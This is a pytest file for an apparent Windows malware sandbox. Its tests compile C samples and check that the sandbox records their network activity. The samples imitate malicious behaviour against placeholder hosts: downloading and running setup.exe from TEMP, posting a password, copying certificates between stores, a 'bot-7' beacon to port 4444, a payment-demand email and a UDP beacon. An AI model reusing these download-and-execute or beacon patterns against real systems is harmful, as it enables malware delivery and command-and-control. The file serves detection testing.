"""What Windows programs send, by each of their ways to the network."""

from __future__ import annotations

import pytest

from lazaretto.domain.trace import Ending

pytestmark = pytest.mark.machine("windows")

DOWNLOADS = r"""
#include <windows.h>
#include <urlmon.h>
#include <stdio.h>
int main(void)
{
    char place[MAX_PATH];
    STARTUPINFOA start = {sizeof(start)};
    PROCESS_INFORMATION child;
    snprintf(place, sizeof(place), "%s\\setup.exe", getenv("TEMP"));
    if (URLDownloadToFileA(0, "@ADDRESS@", place, 0, 0)) return 1;
    if (!CreateProcessA(place, 0, 0, 0, FALSE, 0, 0, 0, &start, &child)) return 2;
    WaitForSingleObject(child.hProcess, 60000);
    return 0;
}
"""


@pytest.mark.parametrize("bits", [64, 32])
@pytest.mark.parametrize("url", ["http://cdn.example.net/get/setup.exe", "https://cdn.example.net/get/setup.exe"])
def test_downloaded_program_is_recognised_when_it_runs(windows, programs, url, bits):
    sample = programs.pe(DOWNLOADS.replace("@ADDRESS@", url), "-lurlmon", bits=bits, name=f"downloads{bits}.exe")
    observed = windows(sample, "exe")
    assert observed.ending is Ending.EXITED, observed.story()
    assert observed.process(f"downloads{bits}.exe").exit_code == 0, observed.story()
    http = observed.one("net.http", url=url)
    assert (http.method, http.tls, http.served, http.status) == ("GET", url.startswith("https"), "program", 200)
    steps = [
        observed.one("net.dns", name="cdn.example.net"),
        http,
        observed.one("file.write", path=lambda path: path.lower().endswith(r"\temp\setup.exe")),
        observed.one("process.start", image=lambda image: image.lower().endswith(r"\temp\setup.exe")),
    ]
    assert [step.id for step in steps] == sorted(step.id for step in steps), observed.story()
    recorder = observed.one("recorder")
    assert recorder.url == url
    assert steps[-1].id in recorder.because


POSTS = r"""
#include <windows.h>
#include <wininet.h>
int main(void)
{
    char body[] = "user=anna&password=secret", answer[512];
    DWORD n;
    HINTERNET net = InternetOpenA("tester/1", 0, 0, 0, 0);
    HINTERNET server = InternetConnectA(net, "bank.example.com", 443, 0, 0, INTERNET_SERVICE_HTTP, 0, 0);
    HINTERNET asked = HttpOpenRequestA(server, "POST", "/login?id=7", 0, 0, 0, INTERNET_FLAG_SECURE, 0);
    if (!HttpSendRequestA(asked, "X-Id: 42\r\n", -1, body, strlen(body))) return 1;
    return !InternetReadFile(asked, answer, sizeof(answer), &n);
}
"""


@pytest.mark.parametrize("bits", [64, 32])
def test_encrypted_request_is_read(windows, programs, bits):
    observed = windows(programs.pe(POSTS, "-lwininet", bits=bits, name=f"posts{bits}.exe"), "exe")
    http = observed.one("net.http", tls=True)
    assert (http.method, http.url) == ("POST", "https://bank.example.com/login?id=7")
    assert http.body == b"user=anna&password=secret"
    assert (http.headers["User-Agent"], http.headers["X-Id"]) == ("tester/1", "42")
    assert observed.process("posts").exit_code == 0


@pytest.mark.parametrize("bits", [64, 32])
def test_encrypted_request_changes_no_registry(windows, programs, bits):
    observed = windows(programs.pe(POSTS, "-lwininet", bits=bits, name=f"posts{bits}.exe"), "exe")
    assert observed.process("posts").exit_code == 0
    assert not observed.events("registry.set"), observed.story()


AGAIN = r"""
#include <windows.h>
#include <wininet.h>
static int ask(int port, int flags)
{
    DWORD size = 0;
    char answer[512];
    HINTERNET net = InternetOpenA("tester/1", 0, 0, 0, 0);
    HINTERNET server = InternetConnectA(net, "files.example.com", port, 0, 0, INTERNET_SERVICE_HTTP, 0, 0);
    HINTERNET asked = HttpOpenRequestA(server, "GET", "/a", 0, 0, 0, flags | INTERNET_FLAG_RELOAD, 0);
    int good = HttpSendRequestA(asked, 0, 0, 0, 0) && InternetReadFile(asked, answer, sizeof(answer), &size) && size;
    InternetCloseHandle(net);
    return good;
}
int main(void)
{
    int failed = 0;
    for (int i = 0; i < 8; i++) failed += !ask(80, 0) + !ask(443, INTERNET_FLAG_SECURE) + !ask(8080 + i, 0);
    return failed;
}
"""


@pytest.mark.parametrize("bits", [64, 32])
def test_every_connection_of_many_succeeds(windows, programs, bits):
    """Wine's server interrupts who asked for a connection at any point: no observer may break what it interrupts."""
    observed = windows(programs.pe(AGAIN, "-lwininet", bits=bits, name=f"again{bits}.exe"), "exe")
    assert observed.process("again").exit_code == 0, observed.story()
    assert len(observed.events("net.http")) == 24


TRUSTS = r"""
#include <windows.h>
#include <wincrypt.h>
int main(void)
{
    HCERTSTORE trusted = CertOpenSystemStoreA(0, "ROOT"), own = CertOpenSystemStoreA(0, "CA");
    PCCERT_CONTEXT any = CertEnumCertificatesInStore(trusted, 0);
    if (!any) return 1;
    if (!CertAddCertificateContextToStore(own, any, CERT_STORE_ADD_REPLACE_EXISTING, 0)) return 2;
    return !CertCloseStore(own, 0);
}
"""


@pytest.mark.parametrize("bits", [64, 32])
def test_only_the_certificate_that_the_program_stores_is_told(windows, programs, bits):
    observed = windows(programs.pe(TRUSTS, "-lcrypt32", bits=bits, name=f"trusts{bits}.exe"), "exe")
    assert observed.process("trusts").exit_code == 0, observed.story()
    written = observed.one("registry.set", name="Blob")
    assert r"\Root" not in written.key, observed.story()


SOCKETS = r"""
#include <winsock2.h>
#include <string.h>
static SOCKET to(const char *address, int port)
{
    struct sockaddr_in there = {AF_INET, htons(port)};
    there.sin_addr.s_addr = inet_addr(address);
    SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
    connect(s, (void *)&there, sizeof(there));
    return s;
}
static void say(SOCKET s, const char *line)
{
    char answer[512];
    if (*line) send(s, line, strlen(line), 0);
    recv(s, answer, sizeof(answer), 0);
}
int main(void)
{
    WSADATA data;
    WSAStartup(0x202, &data);
    SOCKET bare = to("198.51.100.7", 4444);
    send(bare, "HELLO bot-7\n", 12, 0);
    closesocket(bare);
    struct hostent *host = gethostbyname("mail.example.com");
    SOCKET mail = to(inet_ntoa(*(struct in_addr *)host->h_addr_list[0]), 25);
    say(mail, "");
    say(mail, "EHLO office\r\n");
    say(mail, "MAIL FROM:<a@example.com>\r\n");
    say(mail, "RCPT TO:<b@example.org>\r\n");
    say(mail, "DATA\r\n");
    say(mail, "Subject: Invoice 7\r\n\r\nPlease pay at once.\r\n.\r\n");
    say(mail, "QUIT\r\n");
    struct sockaddr_in here = {AF_INET, htons(31337)};
    SOCKET server = socket(AF_INET, SOCK_STREAM, 0);
    bind(server, (void *)&here, sizeof(here));
    listen(server, 1);
    struct sockaddr_in any = {AF_INET};
    SOCKET chosen = socket(AF_INET, SOCK_STREAM, 0);
    any.sin_addr.s_addr = inet_addr("127.0.0.1");
    bind(chosen, (void *)&any, sizeof(any));
    listen(chosen, 1);
    struct sockaddr_in away = {AF_INET, htons(9999)};
    away.sin_addr.s_addr = inet_addr("203.0.113.9");
    SOCKET udp = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(udp, "beacon", 6, 0, (void *)&away, sizeof(away));
    return 0;
}
"""


@pytest.mark.parametrize("bits", [64, 32])
def test_sockets(windows, programs, bits):
    observed = windows(programs.pe(SOCKETS, "-lws2_32", bits=bits, name=f"sockets{bits}.exe"), "exe")
    sample = observed.process(f"sockets{bits}.exe").key
    assert observed.one("net.connect", protocol="tcp", address="198.51.100.7", port=4444).process == sample
    assert observed.one("net.data", address="198.51.100.7").head.startswith(b"HELLO bot-7")
    dns = observed.one("net.dns", name="mail.example.com")
    connect = observed.one("net.connect", port=25)
    assert (connect.host, connect.address) == ("mail.example.com", dns.answers[0])
    mail = observed.one("net.smtp")
    assert (mail.sender, mail.recipients, mail.subject) == ("a@example.com", ("b@example.org",), "Invoice 7")
    assert b"Please pay at once." in mail.head
    listens = observed.events("net.listen")
    assert [(event.protocol, event.address, event.process) for event in listens] == [
        ("tcp", "0.0.0.0", sample),
        ("tcp", "127.0.0.1", sample),
    ], observed.story()
    assert (listens[0].port, listens[1].port > 1023) == (31337, True)
    assert observed.one("net.data", protocol="udp", address="203.0.113.9").head == b"beacon"
    assert observed.events("net.data", address=lambda address: address.startswith("127.")) == []
    (packets,) = observed.artifacts("pcap")
    assert b"HELLO bot-7" in observed.content(packets)
